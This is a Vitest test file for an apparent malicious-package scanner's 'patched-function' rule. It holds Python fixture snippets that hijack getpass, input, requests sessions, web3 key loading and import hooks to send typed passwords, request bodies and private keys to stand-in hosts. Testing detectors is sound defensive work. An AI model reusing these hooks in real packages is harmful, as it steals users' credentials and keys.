import { expect, test } from 'vitest';
import type { Finding } from '../../../src/analysis/report/finding.ts';
import { inspect, python, wheel } from '../../support/inspect.ts';
import { judge, pointsOf } from './judge.ts';

test('malicious: a prompt that hands on what was typed is caught', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "import getpass, urllib.request\n_real = getpass.getpass\ndef _ask(prompt='Password: '):\n    typed = _real(prompt)\n    urllib.request.urlopen('https://sink.example.invalid', data=(prompt + typed).encode())\n    return typed\ngetpass.getpass = _ask\n",
  });

  expect(pointsOf(result, 'patched-function')).toBeGreaterThanOrEqual(9);
});

test('look-alike: a wrapper that only counts is not', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "import getpass\n_real = getpass.getpass\nCALLS = []\ndef _ask(prompt='Password: '):\n    CALLS.append(prompt)\n    return _real(prompt)\ngetpass.getpass = _ask\n",
  });

  expect(pointsOf(result, 'patched-function')).toBeLessThanOrEqual(0);
});

test('evasion: setattr is assignment too', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "import builtins, urllib.request\ndef _ask(prompt=''):\n    urllib.request.urlopen('https://sink.example.invalid/?p=' + prompt, data=prompt.encode())\n    return ''\nsetattr(builtins, 'input', _ask)\n",
  });

  expect(pointsOf(result, 'patched-function')).toBeGreaterThanOrEqual(9);
});

test('a finder that wraps what it imports, and sends what that is handed, is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import importlib.machinery, json, sys, urllib.request',
      'class Loader:',
      '    def __init__(self, loader):',
      '        self.loader = loader',
      '    def create_module(self, spec):',
      '        return self.loader.create_module(spec)',
      '    def exec_module(self, module):',
      '        self.loader.exec_module(module)',
      '        original = module.Session.__init__',
      '        def wrapped(session, *args, **kwargs):',
      '            original(session, *args, **kwargs)',
      "            urllib.request.urlopen('https://seen.tools.invalid/s', data=json.dumps({'args': repr(args)}).encode())",
      '        module.Session.__init__ = wrapped',
      'class Finder:',
      '    def find_spec(self, name, path, target=None):',
      '        spec = importlib.machinery.PathFinder.find_spec(name, path)',
      '        if spec is not None:',
      '            spec.loader = Loader(spec.loader)',
      '        return spec',
      'sys.meta_path.insert(0, Finder())',
    ),
  });

  expect(await inspect('patched-function', file)).toMatchObject([{ class: 'malware', score: 10, line: 12 }]);
});

test('a finder that counts the calls of what it imports stays silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import importlib.machinery, sys',
      'counts = {}',
      'class Loader:',
      '    def __init__(self, loader):',
      '        self.loader = loader',
      '    def exec_module(self, module):',
      '        self.loader.exec_module(module)',
      '        original = module.connect',
      '        def wrapped(*args, **kwargs):',
      '            counts[module.__name__] = counts.get(module.__name__, 0) + 1',
      '            return original(*args, **kwargs)',
      '        module.connect = wrapped',
      'class Finder:',
      '    def find_spec(self, name, path, target=None):',
      '        spec = importlib.machinery.PathFinder.find_spec(name, path)',
      '        spec.loader = Loader(spec.loader)',
      '        return spec',
      'sys.meta_path.insert(0, Finder())',
    ),
  });

  expect(await inspect('patched-function', file)).toEqual([]);
});

test.each([
  [
    'a transaction of an RPC client',
    [
      'from eth_account import Account',
      'from web3 import Web3',
      'w3 = Web3(Web3.HTTPProvider("https://rpc.node-pool.invalid"))',
      'real = Account.from_key',
      'def leak(key):',
      '    tx = {"to": "0x0", "data": Web3.to_hex(text=str(key))}',
      '    w3.eth.send_raw_transaction(w3.eth.account.sign_transaction(tx, "0x11").raw_transaction)',
      'def from_key(key, *a):',
      '    leak(key)',
      '    return real(key, *a)',
      'Account.from_key = from_key',
    ],
  ],
  [
    'the session that it wraps',
    [
      'import requests',
      'from requests.sessions import Session',
      'real = Session.send',
      'def send(self, request, **kw):',
      '    real(Session(), requests.Request("POST", "https://seen.tools.invalid/c", data={"b": request.body}).prepare())',
      '    return real(self, request, **kw)',
      'Session.send = send',
    ],
  ],
])('a wrapper that hands on what it sees by %s is malware', async (_way, lines) => {
  const file = wheel({ 'pkg/__init__.py': python(...lines) });

  expect(await inspect('patched-function', file)).toContainEqual(
    expect.objectContaining({ class: 'malware', score: 10 }),
  );
});

test('a wallet that sends the transactions of its caller, and a session that tries again, are silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'from web3 import Web3',
      'import requests',
      'from requests.sessions import Session',
      'w3 = Web3(Web3.HTTPProvider("https://rpc.node-pool.invalid"))',
      'def pay(private_key, to):',
      '    signed = w3.eth.account.sign_transaction({"to": to}, private_key)',
      '    return w3.eth.send_raw_transaction(signed.raw_transaction)',
      'real = Session.send',
      'def send(self, request, **kw):',
      '    answer = real(self, request, **kw)',
      '    return answer if answer.ok else real(self, request, **kw)',
      'Session.send = send',
    ),
  });

  expect(await inspect('patched-function', file)).toEqual([]);
  expect(await inspect('secret-parameter', file)).toEqual([]);
});

test('what a program prints, shown by a named service elsewhere, is for a person to judge; at a bare address, or what is typed, is malware', async () => {
  const of = (place: string, name: string, sent: string): Promise<readonly Finding[]> =>
    inspect(
      'patched-function',
      wheel({
        'pkg/__init__.py': python(
          'import builtins, getpass, json, sys',
          'from websocket import create_connection',
          `ws = create_connection('${place}')`,
          'def shown(original):',
          '    def patched(text):',
          '        value = original(text)',
          `        ws.send(json.dumps({'log': ${sent}}))`,
          '        return value',
          '    return patched',
          `${name} = shown(${name})`,
        ),
      }),
    );

  expect(await of('wss://console.forms.invalid/lib', 'sys.stdout.write', 'text')).toMatchObject([
    { class: 'suspicious', score: 6 },
  ]);
  for (const [place, name, sent] of [
    ['ws://203.0.113.7:9000/lib', 'sys.stdout.write', 'text'],
    ['wss://console.forms.invalid/lib', 'getpass.getpass', 'value'],
    ['wss://console.forms.invalid/lib', 'builtins.input', 'value'],
  ] as const)
    expect(await of(place, name, sent)).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('a form elsewhere that is shown the question and answers it is for a person to judge', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import builtins, json',
      'from websocket import create_connection',
      "ws = create_connection('wss://console.forms.invalid/lib')",
      'def read(question=""):',
      "    ws.send(json.dumps({'question': question}))",
      '    return json.loads(ws.recv())',
      'builtins.input = read',
    ),
  });

  expect(await inspect('patched-function', file)).toMatchObject([{ class: 'suspicious', score: 10 }]);
});

test('a method of a client that the module has made, which goes on to the one before, is no patch of others', async () => {
  const wrapped = (client: string): string =>
    python(
      'import httpx',
      `client = ${client}`,
      'before = client.request',
      'async def request(method, url, **more):',
      "    more.setdefault('headers', {})['X-Key'] = 'inert'",
      "    return await httpx.post('https://news.vendor.invalid/log', data={'u': url})",
      'client.request = request',
    );

  expect(await inspect('patched-function', wheel({ 'pkg/__init__.py': wrapped('httpx.AsyncClient()') }))).toEqual([]);
  expect(await inspect('patched-function', wheel({ 'pkg/__init__.py': wrapped('httpx') }))).toMatchObject([
    { class: 'malware', context: 'import' },
  ]);
});
